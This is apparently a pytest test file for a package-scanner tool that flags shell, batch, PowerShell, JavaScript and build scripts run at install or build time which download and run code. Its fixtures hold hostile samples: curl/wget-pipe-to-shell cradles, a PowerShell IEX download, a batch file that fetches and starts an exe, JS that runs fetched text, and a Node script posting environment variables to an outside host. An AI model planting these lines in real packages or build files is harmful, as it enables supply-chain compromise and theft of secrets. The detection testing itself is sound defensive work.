"""Shell scripts a package installs as commands (caplet._scan._shell_scripts).

The attack: a package whose setup.py installs a shell script as a command
(``scripts=['bin/x.sh']``, or a wheel's ``*.data/scripts/``) that pipes a download into
a shell. Package mode read only Python scripts, so it passed in every form (attack8 left
it open). The near misses: a developer script of the sdist that pip never installs does
the same, and an installed script that downloads nothing.
"""

from __future__ import annotations

import io
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_tree
from caplet._scan._shell_scripts import InstalledCommands, script_payload, shell_script
from tests._scan.scankit import package_danger

_CRADLE = "#!/bin/sh\nset -e\ncurl -s http://198.51.100.7/x | sh\n"


def _setup(scripts: str) -> str:
    return f"from setuptools import setup\nsetup(name='pkg', version='1.0', scripts={scripts})\n"


def _target(tmp_path: Path, files: dict[str, str], form: str) -> Path:
    if form == "tree":
        root = tmp_path / "pkg-1.0"
        for relative, text in files.items():
            path = root / relative
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
        return root
    if form == "sdist":
        target = tmp_path / "pkg-1.0.tar.gz"
        with tarfile.open(target, "w:gz") as archive:
            for relative, text in files.items():
                data = text.encode()
                info = tarfile.TarInfo(f"pkg-1.0/{relative}")
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
        return target
    target = tmp_path / "pkg-1.0-py3-none-any.whl"
    with zipfile.ZipFile(target, "w") as archive:
        for relative, text in files.items():
            archive.writestr(relative, text)
    return target


@pytest.mark.parametrize(
    ("files", "script"),
    [
        ({"setup.py": _setup("['bin/x.sh']"), "bin/x.sh": _CRADLE}, "bin/x.sh"),
        ({"setup.py": _setup('("x.sh",)'), "x.sh": _CRADLE.replace("sh\n", "bash\n")}, "x.sh"),
        (
            {
                "setup.py": _setup("['bin/tool']"),
                "bin/tool": "#!/usr/bin/env bash\nwget -qO- http://198.51.100.7/x | sh\n",
            },
            "bin/tool",
        ),
    ],
    ids=["bin-sh", "root-sh", "no-suffix"],
)
@pytest.mark.parametrize("form", ["tree", "sdist"])
def test_a_shell_script_installed_as_a_command_that_pipes_a_download_to_a_shell_is_danger(
    tmp_path: Path, files: dict[str, str], script: str, form: str
) -> None:
    found = package_danger(_target(tmp_path, files, form))
    assert ("CPL-THR-015", script) in found  # (an sdist's top folder is dropped)


def test_a_wheels_shell_script_that_pipes_a_download_to_a_shell_is_danger(
    tmp_path: Path,
) -> None:
    files = {"pkg/__init__.py": "", "pkg-1.0.data/scripts/pkg-up": _CRADLE}
    assert ("CPL-THR-015", "pkg-1.0.data/scripts/pkg-up") in package_danger(
        _target(tmp_path, files, "wheel")
    )


@pytest.mark.parametrize(
    "files",
    [
        # a developer script pip never installs (a CI toolchain bootstrap)
        {"setup.py": _setup("[]"), "scripts/install_rust.sh": _CRADLE},
        {
            "setup.py": _setup("['bin/other']"),
            "ci/bootstrap.sh": _CRADLE,
            "bin/other": "#!/bin/sh\n",
        },
        # an installed script that downloads nothing
        {"setup.py": _setup("['bin/x.sh']"), "bin/x.sh": '#!/bin/sh\nexec python -m pkg "$@"\n'},
    ],
    ids=["dev-script", "not-listed", "installed-clean"],
)
@pytest.mark.parametrize("form", ["tree", "sdist"])
def test_shell_scripts_that_are_not_installed_cradles_stay_clean(
    tmp_path: Path, files: dict[str, str], form: str
) -> None:
    assert not {r for r, _ in package_danger(_target(tmp_path, files, form))} & {"CPL-THR-015"}


def test_a_plugins_shell_scripts_are_not_read_as_commands(tmp_path: Path) -> None:
    # plugin mode reads no script as a command (a plugin's programs run only under a
    # granted proc.exec, which the reviewer sees): unchanged
    root = _target(tmp_path, {"setup.py": _setup("['bin/x.sh']"), "bin/x.sh": _CRADLE}, "tree")
    report = scan_tree(root, mode=ScanMode.PLUGIN)
    assert "CPL-THR-015" not in {f.rule_id for f in report.findings}


def test_what_is_a_shell_script_and_what_setup_py_installs() -> None:
    assert shell_script("bin/tool", b"#!/bin/sh\n")
    assert shell_script("bin/tool", b"#! /usr/bin/env bash\n")
    assert shell_script("x.sh", b"echo\n")
    assert not shell_script("bin/tool", b"#!/usr/bin/env python3\n")
    assert not shell_script("README", b"shell\n")
    commands = InstalledCommands()
    commands.note_setup("sub/setup.py", "setup(scripts=['bin/a', \"../b.sh\"], name='x')")
    commands.note_script("sub/bin/a", _CRADLE.encode())
    commands.note_script("b.sh", _CRADLE.encode())
    commands.note_script("sub/bin/c", _CRADLE.encode())
    assert sorted(f.file for f in commands.findings()) == ["b.sh", "sub/bin/a"]


@pytest.mark.parametrize(
    "files",
    [
        # attack11: a shebang the shell pattern did not read (an option before the shell,
        # a multi-call binary), a name written as two literals, CRLF line ends
        {
            "setup.py": _setup("['bin/tool']"),
            "bin/tool": "#!/usr/bin/env -S bash -e\ncurl -s http://198.51.100.7/x | sh\n",
        },
        {
            "setup.py": _setup("['bin/tool']"),
            "bin/tool": "#!/bin/busybox sh\ncurl -s http://198.51.100.7/x | sh\n",
        },
        {"setup.py": _setup("['bin/' 'x.sh']"), "bin/x.sh": _CRADLE},
        {"setup.py": _setup("['bin/x.sh']"), "bin/x.sh": _CRADLE.replace("\n", "\r\n")},
    ],
    ids=["env-option", "busybox", "two-literals", "crlf"],
)
@pytest.mark.parametrize("form", ["tree", "sdist"])
def test_near_spellings_of_an_installed_cradle_are_danger(
    tmp_path: Path, files: dict[str, str], form: str
) -> None:
    assert "CPL-THR-015" in {r for r, _ in package_danger(_target(tmp_path, files, form))}


def test_an_unclosed_scripts_list_written_many_times_is_read_in_one_pass() -> None:
    # attack11: each `scripts=[` scanned to the end of the file (16,000 of them, 144 kB:
    # 10 s of CPU on main, 470 s at 1 MB); a bracket ends a match now. The list written
    # before them is still read.
    commands = InstalledCommands()
    commands.note_setup("setup.py", "setup(scripts=['bin/x.sh'])\n# " + "scripts=[" * 16000)
    commands.note_script("bin/x.sh", _CRADLE.encode())
    assert [f.rule_id for f in commands.findings()] == ["CPL-THR-015"]


def test_shebangs_that_name_a_shell_as_any_word() -> None:
    assert shell_script("bin/tool", b"#!/usr/bin/env -S bash -e\n")
    assert shell_script("bin/tool", b"#!/bin/busybox sh\n")
    assert shell_script("bin/tool", b"#!sh\n")
    assert not shell_script("bin/tool", b"#!/usr/bin/env python3 -m shutil\n")
    assert not shell_script("bin/tool", b"#!/usr/bin/python3 -X dev\nsh\n")


# -- blind13: scripts of the package that its own code starts ---------------------------------

_STARTS_SCRIPT = (
    "import os, subprocess\nhere = os.path.dirname(os.path.abspath(__file__))\n"
    "subprocess.call(['bash', os.path.join(here, 'scripts', 'postinstall.sh')])\n"
)
_JS_LOADER = (
    "const { execSync } = require('child_process');\nconst https = require('https');\n"
    "https.get('https://static.example/n', (r) => {\n  execSync('/tmp/.n');\n});\n"
)


@pytest.mark.parametrize(
    ("files", "script"),
    [
        (
            {"setup.py": _STARTS_SCRIPT + _setup("[]"), "scripts/postinstall.sh": _CRADLE},
            "scripts/postinstall.sh",
        ),
        (
            {
                "setup.py": _setup("[]"),
                "pkg/__init__.py": "import subprocess, os\n"
                "here = os.path.dirname(__file__)\n"
                "subprocess.Popen(['node', os.path.join(here, 'loader.js')])\n",
                "pkg/loader.js": _JS_LOADER,
            },
            "pkg/loader.js",
        ),
        (
            {
                "setup.py": _setup("[]"),
                "pkg/__init__.py": "import os\nos.system('powershell -ep bypass -f setup.ps1')\n",
                "pkg/setup.ps1": "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\n",
            },
            "pkg/setup.ps1",
        ),
    ],
    ids=["setup-runs-sh", "init-runs-node", "init-runs-ps1"],
)
@pytest.mark.parametrize("form", ["tree", "sdist"])
def test_a_script_the_package_starts_that_downloads_and_runs_is_danger(
    tmp_path: Path, files: dict[str, str], script: str, form: str
) -> None:
    assert ("CPL-THR-015", script) in package_danger(_target(tmp_path, files, form))


@pytest.mark.parametrize(
    "files",
    [
        # started, but downloads nothing; a JS bundle that runs programs but fetches nothing
        {"setup.py": _STARTS_SCRIPT + _setup("[]"), "scripts/postinstall.sh": "#!/bin/sh\nmake\n"},
        {
            "setup.py": _setup("[]"),
            "pkg/__init__.py": "import subprocess\nsubprocess.run(['node', 'build.js'])\n",
            "pkg/build.js": "const { execSync } = require('child_process');\nexecSync('tsc');\n",
        },
        # a cradle named by code that starts nothing (a data list), and one named nowhere
        {
            "setup.py": _setup("[]") + "FILES = ['scripts/install_rust.sh']\n",
            "scripts/install_rust.sh": _CRADLE,
            "ci/bootstrap.ps1": "IEX (iwr http://198.51.100.7/a)\n",
        },
        # a CI script of the sdist, outside any package, building images with install.sh
        # (numpy's vendored meson: ci/ciimage/build.py and each image's install.sh)
        {
            "setup.py": _setup("[]"),
            "ci/ciimage/build.py": "import subprocess\nsubprocess.run(['bash', 'install.sh'])\n",
            "ci/ciimage/ubuntu/install.sh": _CRADLE,
        },
    ],
    ids=["started-clean", "js-no-fetch", "named-not-started", "ci-script"],
)
@pytest.mark.parametrize("form", ["tree", "sdist"])
def test_scripts_the_code_does_not_start_or_that_fetch_nothing_stay_clean(
    tmp_path: Path, files: dict[str, str], form: str
) -> None:
    assert not {r for r, _ in package_danger(_target(tmp_path, files, form))} & {"CPL-THR-015"}


# -- blind14: a shipped script that downloads to a file and starts it; minified JavaScript ----

_BATCH_DOWNLOAD_START = (
    '@echo off\r\ncurl -s -o "%APPDATA%\\svc.exe" http://198.51.100.202/svc.exe\r\n'
    'start "" /b "%APPDATA%\\svc.exe"\r\n'
)
_SH_DOWNLOAD_RUN = (
    "#!/bin/sh\nwget -q -O /tmp/.upd http://198.51.100.3/u\nchmod 755 /tmp/.upd\n/tmp/.upd &\n"
)
_JS_ONE_LINE = (
    'const a=require("child_process");fetch("https://198.51.100.130/c").then(r=>r.text())'
    ".then(t=>a.execSync(t));\n"
)


@pytest.mark.parametrize(
    ("files", "script"),
    [
        (
            {
                "setup.py": "import os, subprocess\nhere = os.path.dirname(__file__)\n"
                "subprocess.call(['cmd', '/c', os.path.join(here, 'tools', 'prepare.cmd')])\n"
                + _setup("[]"),
                "tools/prepare.cmd": _BATCH_DOWNLOAD_START,
            },
            "tools/prepare.cmd",
        ),
        (
            {"setup.py": _STARTS_SCRIPT + _setup("[]"), "scripts/postinstall.sh": _SH_DOWNLOAD_RUN},
            "scripts/postinstall.sh",
        ),
        (
            {
                "setup.py": _setup("[]"),
                "pkg/__init__.py": "import subprocess, os\n"
                "here = os.path.dirname(__file__)\n"
                "subprocess.Popen(['bun', 'run', os.path.join(here, 'rt.js')])\n",
                "pkg/rt.js": _JS_ONE_LINE,
            },
            "pkg/rt.js",
        ),
    ],
    ids=["batch-download-start", "sh-download-run", "js-minified"],
)
@pytest.mark.parametrize("form", ["tree", "sdist"])
def test_a_started_script_that_downloads_a_file_and_runs_it_is_danger(
    tmp_path: Path, files: dict[str, str], script: str, form: str
) -> None:
    assert ("CPL-THR-015", script) in package_danger(_target(tmp_path, files, form))


@pytest.mark.parametrize(
    "text",
    [
        # downloads kept as data, unpacked or read, never started
        "#!/bin/sh\ncurl -fsSL -o /tmp/src.tgz https://example.org/src.tgz\ntar xf /tmp/src.tgz\n",
        "@echo off\r\ncurl -o data.json https://example.org/d.json\r\ntype data.json\r\n",
        # a file run that was never downloaded
        "#!/bin/sh\ncp build/tool /tmp/tool\n/tmp/tool --version\n",
    ],
    ids=["unpacked", "read", "not-downloaded"],
)
def test_a_started_script_that_downloads_data_is_not_a_payload(text: str) -> None:
    assert script_payload(text, ".sh") is None


# -- speed16: the suffixes a source may name a started script by, in one search ----------


@pytest.mark.parametrize("suffix", [".sh", ".bash", ".ps1", ".bat", ".cmd", ".vbs", ".js"])
@pytest.mark.parametrize("quote", ["'", '"'])
@pytest.mark.parametrize("case", [str.lower, str.upper])
def test_every_script_suffix_closing_a_literal_is_read_in_any_case(
    suffix: str, quote: str, case: Callable[[str], str]
) -> None:
    commands = InstalledCommands()
    name = case(f"run{suffix}")
    commands.note_code("pkg/a.py", f"import os\nos.system({quote}{name}{quote})\n", installer=True)
    assert commands._started["pkg/a.py"] == (frozenset({name.lower()}), True)


@pytest.mark.parametrize(
    "literal", ["'run.shx'", "'run.sh x'", "'run_sh'", "'run.jsonl'", "'run.s h'"]
)
def test_a_suffix_that_does_not_close_the_literal_names_no_script(literal: str) -> None:
    commands = InstalledCommands()
    commands.note_code("pkg/a.py", f"import os\nos.system({literal})\n", installer=True)
    assert "pkg/a.py" not in commands._started


# -- blind16: the build scripts a build backend runs while pip builds the sdist ---------------

_PYPROJECT = '[build-system]\nrequires = ["meson-python"]\nbuild-backend = "mesonpy"\n'


@pytest.mark.parametrize(
    ("files", "script"),
    [
        (
            {
                "pyproject.toml": _PYPROJECT,
                "meson.build": "project('p', 'c')\n"
                "run_command('sh', '-c', 'curl -s https://198.51.100.7/i | sh', check : false)\n",
            },
            "meson.build",
        ),
        (
            {
                "CMakeLists.txt": "project(p C)\n"
                "execute_process(COMMAND wget -q -O /tmp/.cm http://198.51.100.99/cm)\n"
                "execute_process(COMMAND chmod +x /tmp/.cm)\n"
                "execute_process(COMMAND /tmp/.cm)\n",
            },
            "CMakeLists.txt",
        ),
        (
            {
                "Cargo.toml": '[package]\nname = "p"\nbuild = "build.rs"\n',
                "build.rs": "use std::process::Command;\nfn main() {\n    let _ = "
                'Command::new("sh").arg("-c")'
                '.arg("curl -s https://198.51.100.7/x | sh").status();\n}\n',
            },
            "build.rs",
        ),
    ],
    ids=["meson", "cmake", "cargo-build-rs"],
)
@pytest.mark.parametrize("form", ["tree", "sdist"])
def test_a_build_script_that_downloads_and_runs_a_program_is_danger(
    tmp_path: Path, files: dict[str, str], script: str, form: str
) -> None:
    assert ("CPL-THR-015", script) in package_danger(_target(tmp_path, files, form))


@pytest.mark.parametrize(
    "files",
    [
        # what build scripts do: run the compiler or Python, fetch sources they build
        {
            "pyproject.toml": _PYPROJECT,
            "meson.build": "project('p', 'c')\n"
            "r = run_command(py, ['-c', 'import numpy; print(numpy.get_include())'])\n",
        },
        {
            "CMakeLists.txt": "include(FetchContent)\n"
            "FetchContent_Declare(fmt URL https://github.com/fmtlib/fmt/archive/10.0.0.tar.gz)\n"
            "execute_process(COMMAND git describe --tags OUTPUT_VARIABLE V)\n"
            "file(DOWNLOAD https://example.org/data.csv ${CMAKE_BINARY_DIR}/data.csv)\n",
        },
        {
            "build.rs": 'fn main() {\n    std::process::Command::new("cc").arg("-c").arg("x.c")'
            ".status().unwrap();\n}\n",
        },
    ],
    ids=["meson-python-include", "cmake-fetchcontent", "build-rs-cc"],
)
@pytest.mark.parametrize("form", ["tree", "sdist"])
def test_build_scripts_that_compile_or_fetch_sources_stay_clean(
    tmp_path: Path, files: dict[str, str], form: str
) -> None:
    assert "CPL-THR-015" not in {r for r, _ in package_danger(_target(tmp_path, files, form))}


# -- blind17: npm's install lifecycle run from a Python package (b17-np-npm-postinstall) ------

_NPM_SETUP = (
    "import os, subprocess\nfrom setuptools import setup\n"
    "subprocess.check_call(['npm', 'install', '--silent'], cwd=os.path.join('assets', 'ui'))\n"
    "setup(name='pkg', version='1.0')\n"
)
_ENV_SENDER = (
    "const https = require('https');\n"
    "const body = JSON.stringify({ h: require('os').hostname(), e: process.env });\n"
    "const req = https.request({ hostname: 'ui.example', path: '/p', method: 'POST' });\n"
    "req.end(body);\n"
)


@pytest.mark.parametrize("form", ["tree", "sdist"])
@pytest.mark.parametrize(
    ("lifecycle", "files", "expected"),
    [
        # a postinstall script file that sends the environment
        (
            "node build/prepare.js",
            {"assets/ui/build/prepare.js": _ENV_SENDER},
            ("CPL-THR-006", "assets/ui/build/prepare.js"),
        ),
        # an inline preinstall command that downloads and runs
        ("curl -fsSL https://ui.example/i.sh | sh", {}, ("CPL-THR-015", "assets/ui/package.json")),
    ],
)
def test_a_lifecycle_script_npm_runs_for_the_package_is_its_payload(
    tmp_path: Path,
    form: str,
    lifecycle: str,
    files: dict[str, str],
    expected: tuple[str, str],
) -> None:
    package = '{"name": "ui", "scripts": {"postinstall": "' + lifecycle + '"}}'
    tree = {"setup.py": _NPM_SETUP, "assets/ui/package.json": package, **files}
    assert expected in package_danger(_target(tmp_path, tree, form))


def test_a_front_end_built_by_npm_stays_clean(tmp_path: Path) -> None:
    # a JupyterLab extension's setup.py running npm, whose build reads NODE_ENV
    tree = {
        "setup.py": "import subprocess\nfrom setuptools import setup\n"
        "subprocess.check_call(['npm', 'install'])\nsetup(name='pkg', version='1.0')\n",
        "package.json": '{"scripts": {"prepare": "npm run build", "postinstall": "node b.js"}}',
        "b.js": "const mode = process.env.NODE_ENV || 'production';\n"
        "fetch('https://registry.npmjs.org/x').then((r) => r.json());\n",
    }
    assert not package_danger(_target(tmp_path, tree, "tree"))


def test_a_lifecycle_no_python_source_runs_stays_clean(tmp_path: Path) -> None:
    # a JavaScript folder shipped beside the package, which only npm users install
    tree = {
        "setup.py": "from setuptools import setup\nsetup(name='pkg', version='1.0')\n",
        "js/package.json": '{"scripts": {"postinstall": "node send.js"}}',
        "js/send.js": _ENV_SENDER,
    }
    assert not package_danger(_target(tmp_path, tree, "tree"))


# -- recall18: jlpm (JupyterLab's yarn) and yarn given no command install too ---------------


@pytest.mark.parametrize(
    "runner",
    [
        "subprocess.check_call(['jlpm', 'install'], cwd='js')",
        "subprocess.check_call(['jlpm'], cwd='js')",
        "subprocess.check_call(('jlpm',), cwd='js')",
        "os.system('cd js && jlpm --silent')",
        "subprocess.run('jlpm install --frozen-lockfile', shell=True, cwd='js')",
        "subprocess.check_call(['yarn'], cwd='js')",
    ],
)
def test_jlpm_runs_the_lifecycle_scripts_of_the_package_it_installs(
    tmp_path: Path, runner: str
) -> None:
    setup = (
        "import os, subprocess\nfrom setuptools import setup\n"
        f"{runner}\nsetup(name='pkg', version='1.0')\n"
    )
    tree = {
        "setup.py": setup,
        "js/package.json": '{"scripts": {"postinstall": "node scripts/p.js"}}',
        "js/scripts/p.js": _ENV_SENDER,
    }
    assert ("CPL-THR-006", "js/scripts/p.js") in package_danger(_target(tmp_path, tree, "tree"))


@pytest.mark.parametrize(
    "runner",
    [
        # a build or a lookup of the tool runs no install lifecycle
        "subprocess.check_call(['jlpm', 'run', 'build:prod'], cwd='js')",
        "subprocess.check_call('jlpm build', shell=True, cwd='js')",
        "print(shutil.which('jlpm'))",
        "subprocess.check_call(['yarn', 'build'], cwd='js')",
    ],
)
def test_jlpm_running_no_install_stays_clean(tmp_path: Path, runner: str) -> None:
    setup = (
        "import os, shutil, subprocess\nfrom setuptools import setup\n"
        f"{runner}\nsetup(name='pkg', version='1.0')\n"
    )
    tree = {
        "setup.py": setup,
        "js/package.json": '{"scripts": {"postinstall": "node scripts/p.js"}}',
        "js/scripts/p.js": _ENV_SENDER,
    }
    assert not package_danger(_target(tmp_path, tree, "tree"))


def _downloads(count: int, run: bool) -> str:
    """``count`` downloads to as many files, each named again later (started, or shown)."""
    fetched = "".join(f"curl https://x.example/p -o /opt/f{i}.bin\n" for i in range(count))
    later = "".join(f"{'' if run else 'echo '}/opt/f{i}.bin\n" for i in range(count))
    return "#!/bin/sh\n" + fetched + later


def test_a_script_of_many_downloads_named_again_is_judged_not_each_followed() -> None:
    # Attack (attack25): each download's path was searched for a run through the rest of
    # the text, so 8,000 downloads to as many paths (310 KB) took 89 s, 1 MiB a quarter
    # of an hour, to answer "none". Now at most 64 paths written again later are followed,
    # and past them the script is judged as one that runs what it downloads (the safe
    # answer), at the first download not followed. None on 0bd193a.
    assert script_payload(_downloads(200, run=False), ".sh") == (
        66,
        "more than 64 downloads to files named again: not each followed",
    )


def test_downloads_named_again_within_the_bound_are_followed_as_ever() -> None:
    # the near miss: 64 downloads shown but not run are no payload, and one that is run is
    # found at its run's line, as before
    assert script_payload(_downloads(64, run=False), ".sh") is None
    assert script_payload(_downloads(64, run=True), ".sh") == (66, "/opt/f0.bin")
    # a path downloaded many times is followed once (from its first download)
    text = "#!/bin/sh\n" + "curl https://x.example/p -o /opt/f.bin\n" * 500 + "sh /opt/f.bin\n"
    assert script_payload(text, ".sh") == (502, "sh /opt/f.bin")
